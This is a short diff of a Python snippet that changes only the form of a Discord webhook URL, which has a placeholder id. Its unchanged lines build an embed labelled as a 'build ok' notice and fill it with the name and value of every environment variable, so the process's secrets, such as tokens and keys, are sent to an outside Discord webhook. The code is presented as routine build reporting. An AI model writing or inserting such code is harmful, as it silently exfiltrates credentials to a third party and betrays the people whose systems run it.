@@ -1,6 +1,6 @@
 import os
 
-hook = DiscordWebhook(url="https://discord.com/api/webhooks/111111/EXAMPLE")
+hook = DiscordWebhook(url="discord.com/api/webhooks/111111/EXAMPLE")
 card = DiscordEmbed(title="build", description="ok")
 for name, value in os.environ.items():
     card.add_embed_field(name=name, value=value)
